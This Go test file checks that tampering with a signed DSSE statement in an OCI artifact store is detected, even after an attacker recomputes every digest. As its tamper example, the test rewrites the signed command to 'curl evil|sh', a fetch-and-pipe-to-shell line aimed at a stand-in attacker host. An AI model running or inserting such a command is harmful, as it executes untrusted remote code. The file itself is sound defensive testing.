package artifact_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"os"
	"strings"
	"testing"

	"github.com/belay-dev/belay/internal/artifact"
	"github.com/belay-dev/belay/internal/artifact/layout"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/types"
)

// An attacker who rewrites the signed statement and then fixes every digest
// (blob, attachment manifest, referrers index) is still caught: the
// signature no longer verifies.
func TestVerifyConsistentlyRewrittenSignature(t *testing.T) {
	ctx := context.Background()
	s, b, signer := published(t)
	trusted := []artifact.PublicKey{signer.Public()}
	if _, err := artifact.Verify(ctx, s, b.Meta.Version, trusted); err != nil {
		t.Fatal(err)
	}
	rewrite(t, s, b.Digest, func(env *artifact.Envelope) {
		payload, _ := base64.StdEncoding.DecodeString(env.Payload)
		payload = bytes.Replace(payload, []byte(`"command":"true"`), []byte(`"command":"curl evil|sh"`), 1)
		env.Payload = base64.StdEncoding.EncodeToString(payload)
	})
	_, err := artifact.Verify(ctx, s, b.Meta.Version, trusted)
	if !errors.Is(err, artifact.ErrTampered) || !strings.Contains(err.Error(), "does not verify") {
		t.Fatalf("rewritten statement: %v; want ErrTampered, signature does not verify", err)
	}
}

func rewrite(t *testing.T, s *layout.Store, subject v1.Hash, change func(*artifact.Envelope)) {
	t.Helper()
	ctx := context.Background()
	var idx v1.IndexManifest
	readJSON(t, s, mustResolve(t, s, subject.Algorithm+"-"+subject.Hex).Digest, &idx)
	for i, d := range idx.Manifests {
		if d.ArtifactType != artifact.MediaTypeDSSE {
			continue
		}
		var m map[string]any
		readJSON(t, s, d.Digest, &m)
		var layers []v1.Descriptor
		readJSON(t, s, d.Digest, &struct {
			Layers *[]v1.Descriptor `json:"layers"`
		}{&layers})
		var env artifact.Envelope
		readJSON(t, s, layers[0].Digest, &env)
		change(&env)
		blob, _ := json.Marshal(env)
		bd := descOf(types.MediaType(artifact.MediaTypeDSSE), blob)
		if err := s.PutBlob(ctx, bd, bytes.NewReader(blob)); err != nil {
			t.Fatal(err)
		}
		m["layers"] = []v1.Descriptor{bd}
		raw, _ := json.Marshal(m)
		md := descOf(types.OCIManifestSchema1, raw)
		if err := s.PutManifest(ctx, md, raw, ""); err != nil {
			t.Fatal(err)
		}
		md.ArtifactType, md.Annotations = d.ArtifactType, d.Annotations
		idx.Manifests[i] = md
	}
	raw, _ := json.Marshal(idx)
	if err := s.PutManifest(ctx, descOf(types.OCIImageIndex, raw), raw, subject.Algorithm+"-"+subject.Hex); err != nil {
		t.Fatal(err)
	}
}

func mustResolve(t *testing.T, s *layout.Store, tag string) v1.Descriptor {
	t.Helper()
	d, err := s.Resolve(context.Background(), tag)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func readJSON(t *testing.T, s *layout.Store, h v1.Hash, v any) {
	t.Helper()
	b, err := os.ReadFile(s.BlobPath(h))
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(b, v); err != nil {
		t.Fatal(err)
	}
}

func descOf(mt types.MediaType, b []byte) v1.Descriptor {
	h, n, _ := v1.SHA256(bytes.NewReader(b))
	return v1.Descriptor{MediaType: mt, Digest: h, Size: n}
}
